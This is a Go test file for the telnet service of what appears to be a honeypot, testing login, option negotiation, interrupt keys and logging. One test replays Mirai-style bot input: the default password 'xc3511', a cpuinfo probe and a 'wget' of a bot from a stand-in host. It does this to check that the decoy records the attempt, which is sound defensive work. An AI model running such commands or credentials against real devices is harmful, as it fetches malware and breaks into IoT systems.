package telnet

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os/exec"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"

	"decnet/decoy"
	"decnet/decoy/control"
	"decnet/decoy/decoytest"
	"decnet/decoy/event"
	"decnet/decoy/shell"
)

// device is a decky whose user is let in with their own name as the password.
func device() control.Identity {
	id := decoytest.Identity()
	id.OS, id.Distro = "embedded", "alpine"
	return id
}

// talk runs a dialogue: it waits for each of the expected texts and then types the answer.
func talk(t *testing.T, rw io.ReadWriter, dialogue ...[2]string) string {
	t.Helper()
	var seen bytes.Buffer
	in := bufio.NewReader(rw)
	for _, step := range dialogue {
		from := seen.Len()
		for !strings.Contains(seen.String()[from:], step[0]) {
			c, err := in.ReadByte()
			if err != nil {
				t.Fatalf("waiting for %q after %q: %v", step[0], seen.String(), err)
			}
			seen.WriteByte(c)
		}
		io.WriteString(rw, step[1])
	}
	rest, _ := io.ReadAll(in)
	return seen.String() + string(rest)
}

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

func TestRealClientLogsIn(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("telnet"); err != nil {
		t.Fatal("this test needs the real client telnet")
	}
	id := device()
	d := decoytest.StartAs(t, id, "telnet")
	host, port, err := net.SplitHostPort(d.Address(23))
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "telnet", "-E", host, port)
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Wait()
	defer cmd.Process.Kill()
	user := shell.SystemOf(d.Host).User
	out := talk(t, struct {
		io.Reader
		io.Writer
	}{stdout, stdin}, [2]string{"login: ", user + "\n"}, [2]string{"assword: ", user + "\n"}, [2]string{"$ ", "busybox MIRAI\n"}, [2]string{"$ ", "exit\n"})
	if !strings.Contains(out, "MIRAI: applet not found") {
		t.Errorf("the session is\n%s", out)
	}
	d.Wait(event.AuthAttempt, decoytest.Has(event.Principal, user), decoytest.Has(event.Secret, user), decoytest.Has(event.Outcome, event.Accepted))
	d.Wait(event.CommandRun, decoytest.Has(event.Command, "busybox MIRAI"))
	d.Wait("terminal", func(e event.Event) bool {
		cast, _ := e.Get("cast")
		return strings.Contains(cast, "MIRAI: applet not found") && !strings.Contains(cast, "login: ")
	})
}

func TestBotThatKnowsNoTelnet(t *testing.T) {
	t.Parallel()
	id := device()
	d := decoytest.StartAs(t, id, "telnet")
	out := talk(t, d.Dial(23), [2]string{"ogin: ", "root\r\n"}, [2]string{"assword: ", "xc3511\r\n"}, [2]string{"incorrect", ""}, [2]string{"ogin: ", "admin\n"}, [2]string{"assword: ", "admin\n"},
		[2]string{"$ ", "enable; cat /proc/cpuinfo | grep -i bogo; wget http://203.0.113.9/bot\r\n"}, [2]string{"$ ", "exit\n"})
	for _, want := range []string{"-sh: enable: not found", "BogoMIPS", "can't connect to remote host (203.0.113.9): Host is unreachable"} {
		if !strings.Contains(out, want) {
			t.Errorf("the session lacks %q:\n%s", want, out)
		}
	}
	d.Wait(event.AuthAttempt, decoytest.Has(event.Secret, "xc3511"), decoytest.Has(event.Outcome, event.Rejected))
	d.Wait(event.Download, decoytest.Has("url", "http://203.0.113.9/bot"))
}

func TestKeysThatEndWhatRuns(t *testing.T) {
	t.Parallel()
	d := decoytest.StartAs(t, device(), "telnet")
	out := talk(t, d.Dial(23), [2]string{"ogin: ", "admin\r"}, [2]string{"assword: ", "admin\r"}, [2]string{"$ ", "cat > /tmp/c\r"}, [2]string{"/tmp/c\r\n", "abc\r\x04"},
		[2]string{"$ ", "sleep 600\r"}, [2]string{"600\r\n", "\x03"}, [2]string{"^C\r\n$ ", "sleep 601\r"}, [2]string{"601\r\n", "\xff\xf4"}, [2]string{"^C\r\n$ ", "cat /tmp/c; echo $?\r"}, [2]string{"$ ", "exit\r"})
	if !strings.Contains(out, "\r\nabc\r\n0\r\n") {
		t.Errorf("the session is\n%s", out)
	}
}

func TestNegotiation(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "telnet")
	conn := d.Dial(23)
	// The client would do its terminal type and window size, and asks for an option that is unknown here.
	conn.Write([]byte{iac, will, optTType, iac, will, optNAWS, iac, sb, optNAWS, 0, 120, 0, iac, iac, iac, se, iac, do, 39})
	conn.Write([]byte("\xff\xfa\x18\x00vt220\xff\xf0"))
	d.Wait("client", decoytest.Has("terminal", "vt220"))
	in := make([]byte, 0, 200)
	for !bytes.Contains(in, []byte{iac, wont, 39}) {
		buf := make([]byte, 100)
		n, err := conn.Read(buf)
		if err != nil {
			t.Fatalf("%v after % x", err, in)
		}
		in = append(in, buf[:n]...)
	}
	for name, want := range map[string][]byte{"begin like the telnetd of Linux": {iac, do, optTType, iac, do, optSpeed, iac, do, optDisplay, iac, do, optEnviron}, "will echo": {iac, will, optEcho}, "ask the terminal's name": {iac, sb, optTType, 1, iac, se}} {
		if !bytes.Contains(in, want) {
			t.Errorf("the server does not %s: % x", name, in)
		}
	}
}

func TestThreeTries(t *testing.T) {
	t.Parallel()
	h, err := decoy.NewHost(decoytest.Identity(), nil)
	if err != nil {
		t.Fatal(err)
	}
	d := decoytest.StartAs(t, h.Identity, "telnet")
	step := [2]string{"assword: ", "no\r"}
	out := talk(t, d.Dial(23), [2]string{"login: ", "a\r"}, step, [2]string{"login: ", "b\r"}, step, [2]string{"login: ", "c\r"}, step)
	if n := strings.Count(out, "Login incorrect"); n != 3 {
		t.Errorf("refused %d times:\n%s", n, out)
	}
	d.Wait(event.Disconnect)
}

func TestPasswordIsNotEchoed(t *testing.T) {
	t.Parallel()
	d := decoytest.Start(t, "telnet")
	out := talk(t, d.Dial(23), [2]string{"login: ", "root\r"}, [2]string{"assword: ", "sesame-street\r"}, [2]string{"incorrect", ""}, [2]string{"login: ", "\x03\x04"})
	if strings.Contains(out, "sesame") {
		t.Errorf("the password is echoed:\n%s", out)
	}
}

func TestFilterIsTheSameHoweverTheBytesArrive(t *testing.T) {
	t.Parallel()
	input := []byte("a\xff\xffb\r\nc\r\x00d\ne\xff\xfd\x27f\xff\xfa\x18\x00x\xff\xff\xff\xf0g\xff\xf1h")
	for size := 1; size <= len(input); size++ {
		n := newNegotiator(struct {
			io.Reader
			io.Writer
		}{nil, io.Discard})
		var text []byte
		for at := 0; at < len(input); at += size {
			part := bytes.Clone(input[at:min(at+size, len(input))])
			text = append(text, part[:n.filter(part)]...)
		}
		if want := "a\xffb\rc\rd\refgh"; string(text) != want {
			t.Errorf("in pieces of %d: %q, want %q", size, text, want)
		}
	}
}

func FuzzFilter(f *testing.F) {
	f.Add([]byte("\xff\xfd\x18\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0root\r\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		n := newNegotiator(struct {
			io.Reader
			io.Writer
		}{nil, io.Discard})
		before := len(data)
		if text := n.filter(data); text < 0 || text > before {
			t.Fatal(fmt.Sprint(text, " of ", before))
		}
	})
}
